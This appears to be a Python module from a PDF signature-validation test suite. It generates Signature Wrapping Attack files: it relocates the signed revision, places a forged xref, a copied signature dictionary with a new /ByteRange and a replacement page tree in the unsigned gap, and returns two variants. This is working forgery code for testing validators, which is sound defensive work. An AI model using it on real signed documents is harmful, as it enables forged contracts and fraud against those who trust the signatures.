"""Signature wrapping (SWA; Mladenov et al., "1 Trillion Dollar Refund", 2019).

The signed bytes stay as they are; the second signed part (from the end of /Contents to
the end of the signed revision) moves to the end of the file. Its `startxref` still names
the old offset of the revision's xref section, which now lies in the unsigned gap: there
the attacker writes a forged xref naming a copy of the signature dictionary with a new
/ByteRange (same signed bytes, second part at its new place) and replacement objects, a
whole new page tree included. The file is cut after the signed revision (the DSS update
that followed it is dropped)."""

import re

from .pdfbytes import FORGED, Info, Sig, append_update, stream, text_content


def _table(entries: dict) -> bytes:
    out = b"xref\n"
    for num in sorted(entries):
        out += b"%d 1\n%010d 00000 n \n" % (num, entries[num])
    return out


def _revision_entries(data: bytes, start: int, end: int) -> dict:
    """{num: offset} of the objects defined in data[start:end] (the signed update)."""
    return {
        int(m.group(1)): start + m.start()
        for m in re.finditer(rb"(?m)^(\d+) 0 obj", data[start:end])
    }


def _forged_objects(info: Info, sig: Sig, data: bytes, new_b: int, first: int) -> dict:
    """The copy of the signature dictionary and a new page tree (objects from `first`).
    The new /ByteRange is written at a fixed width, so its value does not move anything."""
    sig_dict = sig.dict_text(data)
    a, _ = sig.gap
    old = re.search(rb"/ByteRange\s*\[[^\]]*\]", sig_dict).group(0)
    rng = b"/ByteRange [0 %010d %010d %010d]" % (a, new_b, sig.end - sig.gap[1])
    sig_dict = sig_dict.replace(old, rng)
    pages, page, content = first, first + 1, first + 2
    page_body = info.body(3).replace(b"/Contents 5 0 R", b"/Contents %d 0 R" % content)
    page_body = page_body.replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % pages)
    root = int(info.root_ref.split()[0])
    catalog = info.body(root).replace(b"/Pages 2 0 R", b"/Pages %d 0 R" % pages)
    return {
        root: catalog,
        sig.obj: sig_dict,
        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /MediaBox [0 0 595 842] >>" % page,
        page: page_body,
        content: stream(b"", text_content(FORGED)),
    }


def _gap(sealed: bytes, new_b: int) -> bytes:
    """The unsigned gap: the original `<hex>`, then at the old xref offset the forged xref,
    its trailer and the forged objects, ending with `>` as a gap must."""
    sig = Sig(sealed)
    a, b = sig.gap
    signed = sealed[: sig.end]
    info = Info(signed)
    x_old = info.startxref
    prev = int(re.findall(rb"/Prev (\d+)", signed[x_old:])[-1])
    # The signed update's own objects keep their offsets (they lie before the gap).
    entries = {n: o for n, o in _revision_entries(signed, 0, a).items() if o > prev}
    objs = _forged_objects(info, sig, signed, new_b, info.size)
    head = sealed[a:b] + b"\n" + b" " * (x_old - b - 1)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (info.size + 3, info.root_ref, prev)
    table_len = len(_table({**entries, **dict.fromkeys(objs, 0)}))
    at = x_old + table_len + len(trailer)
    body = b""
    for n, o in objs.items():
        entries[n] = at + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (n, o)
    return head + _table(entries) + trailer + body + b"%>"


def _wrap(sealed: bytes) -> bytes:
    sig = Sig(sealed)
    a, b = sig.gap
    gap_len = len(_gap(sealed, 0))
    gap = _gap(sealed, a + gap_len)
    assert len(gap) == gap_len
    out = sealed[:a] + gap + sealed[b : sig.end]
    assert out[a : a + 1] == b"<" and out[a + gap_len - 1 : a + gap_len] == b">"
    return out


def _with_dss(pdf: bytes) -> bytes:
    """`pdf` plus an update that only adds a DSS (as B-LT validation data would)."""
    info = Info(pdf)
    root = int(info.root_ref.split()[0])
    n = info.size
    catalog = info.body(root)
    catalog = catalog[: catalog.rindex(b">>")] + b" /DSS %d 0 R >>" % n
    cert = stream(b"", Sig(pdf).cms[:64])
    return append_update(
        pdf, {root: catalog, n: b"<< /Type /DSS /Certs [%d 0 R] >>" % (n + 1), n + 1: cert}
    )


def cases(sealed: bytes) -> dict:
    wrapped = _wrap(sealed)
    return {"xref-in-gap": wrapped, "xref-in-gap-then-dss": _with_dss(wrapped)}
